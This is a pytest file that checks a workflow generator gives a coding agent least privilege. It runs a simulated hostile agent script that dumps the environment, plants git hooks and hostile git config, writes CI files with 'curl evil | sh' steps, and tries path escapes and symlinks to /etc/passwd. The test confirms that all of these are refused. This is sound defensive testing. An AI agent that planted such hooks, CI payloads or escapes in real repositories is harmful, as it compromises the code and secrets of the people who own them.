"""Least privilege inside the DAG (issue 6).

Manifests: across every generated WorkflowTemplate and CronWorkflow, exactly the steps listed in
``FORGE_TOKEN_HOLDERS`` receive the forge token (each with the reason it needs it), the agent container receives
no Secret at all except its own ``agent.secret`` and no Kubernetes token, and each pattern's ``allowed_paths``
reaches the prepare (prompt) and publish (enforcement) containers unchanged.

End to end, per pattern: a hostile command agent plants git hooks and hostile repository-local git config,
edits CI configuration, writes outside the allow-list, tries ``../`` escapes and symlinks, and makes one
allowed change. Only the allowed change reaches the bare remote; no hook or config command ever runs; the
refusals are listed in the PR body and in the agent step's log.
"""

from __future__ import annotations

import json
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml

from hera_flows.config import parse_config
from hera_flows.generate import render, write
from tests.conftest import ROOT
from tests.support.fixtures_gitops import create_gitops_remote
from tests.support.partial_run import per_key, run_tasks

CONFIG = ROOT / "config" / "flows.yaml"

# (template, template step, container) -> why it holds the forge token. Anything else holding it fails the test.
FORGE_TOKEN_HOLDERS = {
    ("*", "agent", "main"): "publish: pushes the branch (write)",
    ("*", "review", "main"): "review: opens or updates the PR / issue (write)",
    ("*", "report", "main"): "report: comments on the PR (write)",
    ("*", "agent", "prepare"): "prepare: clones a private repository (read; optional secret ref)",
    ("mlflow-promotion", "context", "main"): "context: reads the manifest from a private repository (optional)",
    ("drift-remediation", "context", "main"): "context: reads the params file and git log (optional)",
    ("drift-remediation", "guard", "main"): "guard: counts open drift PRs for max_open_prs (read)",
    ("promotion-reconcile", "reconcile", "main"): "reconcile: clones the repository, looks for open promotion PRs "
                                                  "(read; optional secret ref)",
    ("model-rollback", "guard", "main"): "guard: clones the repository to find the promotion commit (read; optional)",
}
READ_ONLY_HOLDERS = {("*", "agent", "prepare"), ("mlflow-promotion", "context", "main"),
                     ("promotion-reconcile", "reconcile", "main"), ("model-rollback", "guard", "main"),
                     ("drift-remediation", "context", "main"), ("drift-remediation", "guard", "main")}


def _workflow_specs(rendered: dict[str, str]) -> list[tuple[str, dict[str, Any]]]:
    specs = []
    for text in rendered.values():
        for doc in yaml.safe_load_all(text):
            if doc["kind"] == "WorkflowTemplate":
                specs.append((doc["metadata"]["name"], doc["spec"]))
            elif doc["kind"] == "CronWorkflow":
                specs.append((doc["metadata"]["name"], doc["spec"]["workflowSpec"]))
    return specs


def _containers(tpl: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    found = [("main", tpl["container"])] if "container" in tpl else []
    found += [("script", tpl["script"])] if "script" in tpl else []
    found += [(c["name"], c) for c in tpl.get("containerSet", {}).get("containers", [])]
    found += [(f"init/{c['name']}", c) for c in tpl.get("initContainers", [])]
    found += [(f"sidecar/{c['name']}", c) for c in tpl.get("sidecars", [])]
    return found


def _secret_refs(container: dict[str, Any]) -> list[tuple[str, str]]:
    refs = [(e["name"], e["valueFrom"]["secretKeyRef"]["name"])
            for e in container.get("env", []) if "secretKeyRef" in e.get("valueFrom", {})]
    refs += [("envFrom", e["secretRef"]["name"]) for e in container.get("envFrom", []) if "secretRef" in e]
    return refs


def _all_patterns_config(**agent: Any) -> str:
    cfg = yaml.safe_load(CONFIG.read_text())
    for name in ("drift", "failure_triage", "fairness_audit"):
        cfg["patterns"][name]["enabled"] = True
    if agent:
        cfg["agent"] = agent
    return yaml.safe_dump(cfg)


@pytest.mark.parametrize("agent", [{}, {"kind": "command", "image": "example.com/agent:1",
                                        "command": ["agent"], "secret": "agent-credentials"}],
                         ids=["builtin", "command"])
def test_only_publish_review_and_declared_readers_hold_the_forge_token(agent: dict[str, Any]) -> None:
    cfg = parse_config(_all_patterns_config(**agent))
    forge_secret = cfg.forge.token_secret.name
    holders: set[tuple[str, str, str]] = set()
    agent_containers = 0
    for name, spec in _workflow_specs(render(cfg)):
        for tpl in spec["templates"]:
            for container_name, container in _containers(tpl):
                refs = _secret_refs(container)
                if any(secret == forge_secret for _, secret in refs):
                    key = (name, tpl["name"], container_name)
                    assert key in FORGE_TOKEN_HOLDERS or ("*", *key[1:]) in FORGE_TOKEN_HOLDERS, (
                        f"{key} holds the forge token; add it to FORGE_TOKEN_HOLDERS with a reason and document it "
                        "in docs/security.md, or remove it")
                    holders.add(key if key in FORGE_TOKEN_HOLDERS else ("*", *key[1:]))
                    if key in READ_ONLY_HOLDERS or ("*", *key[1:]) in READ_ONLY_HOLDERS:
                        if key != ("drift-remediation", "guard", "main"):
                            # readers tolerate a missing secret: a public repository needs no token at all
                            token = [e for e in container["env"] if e["name"] == "HF_FORGE_TOKEN"][0]
                            assert token["valueFrom"]["secretKeyRef"].get("optional") is True, key
                if tpl["name"] == "agent" and container_name == "agent":
                    agent_containers += 1
                    allowed = [("envFrom", cfg.agent.secret)] if cfg.agent.secret else []
                    assert refs == allowed, f"{name}: the agent container gets {refs}"
                    names = {e["name"] for e in container.get("env", [])}
                    assert not names & {"HF_FORGE_TOKEN", "KUBECONFIG", "HF_GIT_TOKEN"}
                    assert not container.get("volumeMounts") or all(
                        m["mountPath"] in ("/workspace", "/tmp") for m in container["volumeMounts"])
            if any(n == "agent" for n, _ in _containers(tpl)):
                # the pod of the agent mounts no ServiceAccount token (template or workflow level)
                assert tpl.get("automountServiceAccountToken", spec.get("automountServiceAccountToken")) is False
    assert agent_containers == 6  # one per pattern, plus failure triage's Flyte template
    # every write holder exists (the table is not stale)
    assert {("*", "agent", "main"), ("*", "review", "main"), ("*", "report", "main")} <= holders


@pytest.mark.parametrize(
    ("pattern", "template"),
    [("promotion", "mlflow-promotion"), ("drift", "drift-remediation"),
     ("failure_triage", "failure-triage"), ("fairness_audit", "fairness-audit")],
)
def test_each_patterns_allowed_paths_reach_prepare_and_publish(pattern: str, template: str) -> None:
    cfg = yaml.safe_load(_all_patterns_config())
    cfg["patterns"][pattern]["allowed_paths"] = ["custom/**", "docs/*.md"]
    rendered = render(parse_config(yaml.safe_dump(cfg)))
    default = parse_config(_all_patterns_config())
    assert getattr(default.patterns, pattern).allowed_paths, f"{pattern} has no default allowed_paths"
    doc = yaml.safe_load(rendered[f"generated/workflowtemplates/{template}.yaml"])
    [agent] = [t for t in doc["spec"]["templates"] if t["name"] == "agent"]
    flags = {c["name"]: [a for a in c.get("args", []) if a.startswith("--allowed-paths=")]
             for c in agent["containerSet"]["containers"]}
    assert flags["main"] == ["--allowed-paths=custom/**,docs/*.md"]
    assert flags["prepare"] == ["--allowed-paths=custom/**,docs/*.md"]


def test_an_empty_or_escaping_allow_list_is_a_config_error() -> None:
    from hera_flows.config import ConfigError

    for bad in ([], ["../etc/**"], ["/abs/**"]):
        cfg = yaml.safe_load(_all_patterns_config())
        cfg["patterns"]["drift"]["allowed_paths"] = bad
        with pytest.raises(ConfigError):
            parse_config(yaml.safe_dump(cfg))


# ------------------------------------------------------------------------------------------------------------
# End to end: a hostile agent, per pattern

HOSTILE_AGENT = r'''
import json, os, pathlib
canary = pathlib.Path(CANARY)
repo = pathlib.Path.cwd()
workspace = pathlib.Path(os.environ["HF_PROMPT_FILE"]).parent
(workspace / "agent-env.json").write_text(json.dumps(dict(os.environ)))

# 1. git hooks and hostile repository-local config: any git run in this checkout would execute them
hook = "#!/bin/sh\ntouch '%s/hook-'\"$(basename \"$0\")\"\n" % canary
for hooks in (repo / ".git" / "hooks", repo / ".git" / "evil-hooks"):
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "post-checkout",
                 "post-merge", "reference-transaction", "pre-auto-gc", "post-rewrite", "push-to-checkout"):
        (hooks / name).write_text(hook)
        (hooks / name).chmod(0o755)
with open(repo / ".git" / "config", "a") as config:
    config.write("[core]\n\thooksPath = %s\n\tfsmonitor = touch %s/fsmonitor\n\tsshCommand = touch %s/ssh\n"
                 "[filter \"evil\"]\n\tclean = touch %s/filter\n\tsmudge = touch %s/filter\n"
                 % (repo / ".git" / "evil-hooks", canary, canary, canary, canary))

# 2. CI configuration
(repo / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
(repo / ".github" / "workflows" / "ci.yml").write_text("on: push\njobs: {x: {steps: [{run: 'curl evil | sh'}]}}\n")
(repo / ".github" / "workflows" / "exfiltrate.yml").write_text("on: push\n")
(repo / ".gitlab-ci.yml").write_text("script: curl evil | sh\n")

# 3. outside the allow-list, and ../ escapes
(repo / "README.md").write_text("owned\n")
(repo / "outside.txt").write_text("outside\n")
(repo / ".gitattributes").write_text("* filter=evil\n")
(repo / ALLOWED_DIR).mkdir(parents=True, exist_ok=True)
(repo / ALLOWED_DIR.split("/")[0] / ".." / "escaped-sibling.txt").write_text("escape\n")  # lands in the root
(repo / ".." / "escaped-workspace.txt").write_text("escape\n")
try:
    (repo / ".." / ".." / "escaped-volume.txt").write_text("escape\n")
except OSError:
    pass

# 4. symlinks inside the allowed folder pointing out of it (file, folder, absolute), and a nested repository
os.symlink("../.github/workflows/ci.yml", repo / ALLOWED_DIR / "link-to-ci.yaml")
os.symlink("/etc/passwd", repo / ALLOWED_DIR / "passwd.yaml")
os.symlink("../..", repo / ALLOWED_DIR / "up")
os.symlink("/etc", repo / ALLOWED_DIR / "etc")
(repo / ALLOWED_DIR / "nested" / ".git").mkdir(parents=True)
(repo / ALLOWED_DIR / "nested" / ".git" / "config").write_text("[core]\n\tfsmonitor = touch x\n")

# 5. the one legitimate change
(repo / ALLOWED_FILE).write_text("legit: true\n")
pathlib.Path(os.environ["HF_SUMMARY_FILE"]).write_text("Changed one allowed file.\n")
'''

BASE_FILES = {"README.md": "# gitops\n", ".github/workflows/ci.yml": "on: push\n", ".gitlab-ci.yml": "stages: [t]\n"}
MUST_BE_REFUSED = [".github/workflows/ci.yml", ".github/workflows/exfiltrate.yml", ".gitlab-ci.yml", "README.md",
                   "outside.txt", ".gitattributes", "escaped-sibling.txt"]


PATTERNS: dict[str, dict[str, Any]] = {
    "promotion": {
        "template": "mlflow-promotion", "config": {"webhook_secret": {"name": "w", "key": "s"}},
        # the run's own files (publish narrows the allow-list to them): the model's manifest and card
        "files": {"inference/fraud.yaml": "kind: InferenceService\nmetadata: {name: fraud}\n",
                  "model-cards/fraud.md": "# fraud\n"},
        "allowed": "inference/fraud.yaml",
        "upstream": {"guard": {"branch": "model-promotion/fraud-v7", "title": "Promote fraud v7",
                               "dedupe-key": "fraud@v7", "model": "fraud"},
                     "context": {"context": json.dumps({"model": "fraud", "version": "7", "alias": "champion"})}},
    },
    "drift": {
        "template": "drift-remediation", "config": {"monitor": {"enabled": False}},
        "files": {"pipelines/fraud/params.yaml": "window_days: 30\n"},
        "allowed": "pipelines/fraud/params.yaml",
        "upstream": {"guard": {"branch": "drift/fraud-amount-1", "title": "Retrain fraud", "dedupe-key": "fraud/amount",
                               "model": "fraud"},
                     "context": {"context": json.dumps({"model": "fraud", "feature": "amount",
                                                        "event": {"model": "fraud", "feature": "amount"}})}},
    },
    "failure_triage": {
        "template": "failure-triage", "config": {"namespaces": ["ml-training"]},
        "files": {"pipelines/train.yaml": "kind: WorkflowTemplate\nmetadata: {name: train}\n"},
        "allowed": "pipelines/train.yaml",
        "upstream": {"classify": {"branch": "triage/train-oom", "title": "Fix train", "dedupe-key": "train/oom",
                                  "context": json.dumps({"category": "oom", "workflow": {"template": "train"}})}},
    },
    "fairness_audit": {
        "template": "fairness-audit", "config": {},
        "files": {"model-cards/POLICY.md": "# policy\n", "model-cards/fraud.md": "# fraud\n"},
        "allowed": "model-cards/fraud.md",
        "upstream": {name: {"branch": "fairness/2026-W48", "title": "Weekly refresh", "dedupe-key": "fairness/2026-W48"}
                     for name in ("guard", "list-models")} | {
                     "collect": {"context": json.dumps({"date": "2026-11-23", "week": "2026-W48",
                                                        "results": [{"model": "fraud"}]})}},
    },
}


def _generate(tmp: Path, pattern: str, spec: dict[str, Any], remote_url: str, api_url: str, script: Path) -> Path:
    config = {
        "repository": {"url": remote_url, "slug": "acme/ml-gitops"},
        "forge": {"api_url": api_url, "token_secret": {"name": "forge", "key": "token"}},
        "agent": {"kind": "command", "image": "example.com/coding-agent:1", "command": [sys.executable, str(script)]},
        "workflow": {"retry": {"limit": 1, "backoff_seconds": 1}},
        "patterns": {"promotion": {"enabled": False}},
    }
    config["patterns"][pattern] = {**config["patterns"].get(pattern, {}), **spec["config"], "enabled": True}
    out = tmp / "out"
    write(render(parse_config(yaml.safe_dump(config))), out)
    return out


@pytest.mark.slow
@pytest.mark.parametrize("pattern", sorted(PATTERNS))
def test_a_hostile_agent_gets_only_its_allowed_change_pushed(pattern: str, tmp_path: Path, github_api) -> None:
    spec = PATTERNS[pattern]
    canary = tmp_path / "canary"
    canary.mkdir()
    remote = create_gitops_remote(tmp_path / "remote", {**BASE_FILES, **spec["files"]})
    base_head = remote.head()
    allowed_dir = str(Path(spec["allowed"]).parent)
    script = tmp_path / "hostile_agent.py"
    script.write_text(f"CANARY = {str(canary)!r}\nALLOWED_DIR = {allowed_dir!r}\nALLOWED_FILE = {spec['allowed']!r}\n"
                      + HOSTILE_AGENT)
    generated = _generate(tmp_path, pattern, spec, remote.url, github_api.url, script)

    chain = per_key(spec["upstream"]) if pattern == "drift" else {"upstream": spec["upstream"]}
    results, workdir = run_tasks(generated, spec["template"], run=["agent", "review"],
                                 secrets={"forge": {"token": github_api.token}}, workdir=tmp_path / "run", **chain)

    agent, review = results["agent"], results["review"]
    assert agent.phase == "Succeeded", (agent.message, agent.log[-3000:])
    assert review.phase == "Succeeded", (review.message, review.log[-2000:])
    branch = agent.outputs["branch"]

    # the remote: base untouched, the branch holds exactly the allowed change, no symlink, no CI edit
    assert remote.head() == base_head
    assert sorted(remote.branches()) == sorted(["main", branch])
    assert remote.git("diff", "--name-only", "main", branch).split() == [spec["allowed"]]
    assert remote.read(spec["allowed"], branch) == "legit: true\n"
    tree = remote.git("ls-tree", "-r", branch).splitlines()
    assert not [line for line in tree if line.startswith("120000")]
    for path, content in BASE_FILES.items():
        assert remote.read(path, branch) == content

    # no hook, fsmonitor, ssh command or filter driver the agent planted ever ran
    assert list(canary.iterdir()) == []

    # the agent held no forge token and no Kubernetes credentials, and none was left for it on disk
    env = json.loads(next((workdir / "pods").glob("agent-*/volumes/workspace/agent-env.json")).read_text())
    assert not {k for k in env if "TOKEN" in k or k.startswith(("KUBE", "HF_GIT"))}, sorted(env)
    assert github_api.token not in json.dumps(env)
    for path in (workdir / "pods").glob("agent-*/volumes/*/**/*"):
        if path.is_file() and not path.is_symlink():
            assert github_api.token.encode() not in path.read_bytes(), path

    # the run says why: refusals in the step output, the step log and the PR body
    refused = {r["path"]: r["reason"] for r in json.loads(agent.outputs["refused"])}
    for path in MUST_BE_REFUSED:
        assert path in refused, (path, refused)
        assert f"publish: refused {path!r}" in agent.log
    for link in ("link-to-ci.yaml", "passwd.yaml", "up", "etc"):
        assert "symbolic link" in refused[f"{allowed_dir}/{link}"]
    assert "nested .git" in refused[f"{allowed_dir}/nested/.git"]
    [pull] = github_api.pulls()
    assert pull["head"] == branch
    for path in [".github/workflows/ci.yml", ".gitlab-ci.yml", f"{allowed_dir}/passwd.yaml"]:
        assert path in pull["body"], pull["body"]
    log_file = textwrap.dedent((workdir / "logs" / "agent.main.log").read_text())
    assert "publish: refused '.github/workflows/ci.yml'" in log_file
